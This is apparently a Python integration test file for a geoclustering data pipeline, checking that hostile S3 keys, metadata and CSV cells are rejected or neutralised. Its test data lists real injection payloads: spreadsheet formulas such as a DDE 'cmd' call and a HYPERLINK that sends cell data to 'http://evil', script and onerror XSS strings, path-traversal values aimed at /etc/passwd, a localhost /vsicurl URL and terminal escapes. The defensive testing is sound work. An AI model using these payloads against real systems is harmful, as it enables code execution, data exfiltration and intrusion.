"""Names that nobody chooses in good faith, all the way through the pipeline."""

import csv
import io
import json
import re
from pathlib import Path
from typing import Any, Final

from geoclusters import layout
from geoclusters.spreadsheet import as_text
from geoclusters.status import State
from tests.integration.conftest import Pipeline
from tests.integration.test_put_aside import paused

TEMPLATE: Final = Path(__file__).parents[2] / "container/page/template.html"
TOWNS: Final = "name,lat,lon\n" + "".join(
    f"T{i},{47 + i % 7 / 10:.3f},{8 + i % 11 / 10:.3f}\n" for i in range(77)
)
#: What S3 takes for a key: up to 1,024 bytes of UTF-8, whichever. (Line breaks are
#: tried in the unit tests: the emulator's permissions for `input/*` don't reach them.)
KEYS: Final = (
    *("two  spaces/ a b .csv", "a+b c%20d.csv", "100%.csv", "a%2Fb%2B.csv", "%.csv"),
    *("🏭/🗺 \u202e.csv", "tab\tbell\x07.csv", "\x7f.csv"),
    *("=cmd|' /C calc'!A0.csv", "<script>alert(1)</script>.csv", "a&b?c=d#e;f.csv"),
    *("\"quo'te\\.csv", "x//y.csv", ".csv", "..csv"),
)
ELSEWHERE: Final = ("a/../b.csv", "../escape.csv", "./here.csv", "b\\..\\c.csv")


def test_keys_of_every_kind_are_answered_where_it_is_written(
    pipeline: Pipeline,
) -> None:
    versions = {key: pipeline.upload(key, TOWNS.encode(), k="x") for key in KEYS}
    for key, version in versions.items():
        status = pipeline.wait(key, version, State.FAILED)
        assert status["upload"]["uri"] == f"s3://{pipeline.bucket}/input/{key}"
        assert "must be a whole number" in status["message"]


def test_an_upload_that_was_moved_to_its_decoded_key_is_answered_at_both(
    pipeline: Pipeline,
) -> None:
    """It is told of late, when the other one's event came already."""
    uploads = pipeline.queue_url("Ingest")
    with paused(pipeline, uploads):
        version = pipeline.upload("moved+away.csv", TOWNS.encode(), k="3")
        source = {"Bucket": pipeline.bucket, "Key": "input/moved+away.csv"}
        moved = pipeline.s3.copy_object(
            Bucket=pipeline.bucket, Key="input/moved away.csv", CopySource=source
        )
        pipeline.s3.delete_object(**source)
        pipeline.until(lambda: pipeline.messages(uploads) == 2, "both events")
    status = pipeline.wait("moved+away.csv", version, State.FAILED)
    assert "was deleted before it was read" in status["message"]
    pipeline.wait("moved away.csv", moved["VersionId"], State.SUCCEEDED)


def test_a_key_of_the_oddest_letters_has_results(pipeline: Pipeline) -> None:
    key = "🏭 +%2B\x07<b>&amp;/=1+1.csv"
    version = pipeline.upload(key, TOWNS.encode(), k="2")
    status = pipeline.wait(key, version, State.SUCCEEDED)
    prefix = "output/🏭 +%2B\x07<b>&amp;/=1+1/"
    for name in status["files"]:
        assert pipeline.read(prefix + name)
    html = pipeline.read(f"{prefix}map.html").decode()
    assert "<b>&amp;" not in html


def test_keys_that_lead_elsewhere_on_a_disk_are_answered_among_the_rejected(
    pipeline: Pipeline,
) -> None:
    versions = {key: pipeline.upload(key, TOWNS.encode()) for key in ELSEWHERE}
    for key, version in versions.items():
        status = pipeline.wait(key, version, State.FAILED)
        place = layout.output_prefix(f"input/{key}")
        assert re.fullmatch("output/_rejected/[0-9a-f]{20}/", place)
        assert "under a path without such a part" in status["message"]
        assert status["upload"]["uri"] == f"s3://{pipeline.bucket}/input/{key}"


def test_a_folder_in_the_place_of_another_is_nobodys(pipeline: Pipeline) -> None:
    """What a key with `..` would lead to on a disk stays as it was."""
    version = pipeline.upload("b.csv", TOWNS.encode(), k="2")
    before = pipeline.wait("b.csv", version, State.SUCCEEDED)
    other = pipeline.upload("a/../b.csv", TOWNS.encode(), k="3")
    pipeline.wait("a/../b.csv", other, State.FAILED)
    assert pipeline.status("b.csv") == before


#: What is said, and what of it must stand in the answer.
METADATA: Final[tuple[tuple[dict[str, str], str], ...]] = (
    # As S3 hands out what isn't printable ASCII: RFC 2047.
    ({"latitude": "=?UTF-8?Q?L=00=0D=0Aat?="}, r"latitude=L\x00\r\nat"),
    ({"id": "=?utf-8?q?=1b[2Jx?="}, r"\x1b[2Jx"),
    ({"id": "=?unknown?q?x?="}, "=?unknown?q?x?="),
    ({"boundary": "=?utf-8?q?a=0a.zip?="}, r"boundary=a\n.zip"),
    ({"k": "=cmd|' /C calc'!A0"}, "must be a whole number"),
    ({"k": "9" * 1500}, "must be a whole number"),
    ({"boundary": "../../etc/passwd"}, "without “..”"),
    ({"boundary": "/vsicurl/http://127.0.0.1/a.vrt"}, "must be the name of a file"),
    ({"crs": "+proj=longlat +nadgrids=/etc/passwd"}, "the code of a coordinate"),
    ({"geometry": "<script>alert(1)</script>"}, "one of spherical, planar"),
)


def test_metadata_that_says_nothing_sensible_is_told_and_shown_harmlessly(
    pipeline: Pipeline,
) -> None:
    said = {f"metadata/{number}.csv": said for number, said in enumerate(METADATA)}
    versions = {
        key: pipeline.upload(key, TOWNS.encode(), **metadata)
        for key, (metadata, _) in said.items()
    }
    for key, (_, words) in said.items():
        status = pipeline.wait(key, versions[key], State.FAILED)
        assert words in status["message"]
        assert status["message"].isprintable()


FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1)',
    "+1+1|x",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a\x07b\x1b[2Jc",
    "x\u202egpj.exe",
)
ID: Final = '=1+1"<b>id</b>'


def table() -> bytes:
    """Return places whose ids are formulas and markup, some of them unusable."""
    file = io.StringIO(newline="")
    rows = csv.writer(file, lineterminator="\n")
    rows.writerow([ID, "@lat<i>", "lon"])
    for number in range(66):
        text = FORMULAS[number % len(FORMULAS)]
        rows.writerow([text, 47 + number % 7 / 10, 8 + number % 11 / 10])
    for text in FORMULAS:
        rows.writerow([text, "", 8])
    return file.getvalue().encode()


def borders() -> bytes:
    """Return areas around all the places, whose names are formulas and markup."""

    def area(name: str, west: float, east: float) -> dict[str, Any]:
        ring = [[west, 46], [east, 46], [east, 49], [west, 49], [west, 46]]
        geometry = {"type": "Polygon", "coordinates": [ring]}
        return {
            "type": "Feature",
            "properties": {"name": name},
            "geometry": geometry,
        }

    features = [area(FORMULAS[0], 7, 8.5), area(FORMULAS[7], 8.5, 10)]
    return json.dumps({"type": "FeatureCollection", "features": features}).encode()


def test_names_are_never_run_by_a_spreadsheet_or_a_browser(pipeline: Pipeline) -> None:
    name = "=1+1 <i>borders</i>.geojson"
    pipeline.s3.put_object(
        Bucket=pipeline.bucket, Key=f"boundaries/{name}", Body=borders()
    )
    key = "=names <script>.csv"
    version = pipeline.upload(
        key, table(), k="4", id=ID, latitude="@lat<i>", boundary=name
    )
    status = pipeline.wait(key, version, State.SUCCEEDED)
    assert status["warnings"] == []
    assert status["rows"]["left_out"]["coordinate missing"]["rows"] == len(FORMULAS)

    seen: set[str] = set()
    for file in ("centroids.csv", "assignments.csv", "rejected.csv"):
        text = pipeline.result(key, file).decode()
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert as_text(cell) == cell, (file, cell)
            seen.update(row)
    assert {as_text(text) for text in FORMULAS} <= seen
    areas = {centroid["area"] for centroid in pipeline.centroids(key)}
    assert areas <= {as_text(FORMULAS[0]), FORMULAS[7], ""}
    assert areas != {""}

    html = pipeline.result(key, "map.html").decode()
    own = TEMPLATE.read_text()
    for tag in ("<script", "</script", "<img", "<!--"):
        assert html.count(tag) == own.count(tag)
    for text in (*FORMULAS[7:9], "<i>borders", "<b>id", "<script>.csv"):
        assert text not in html
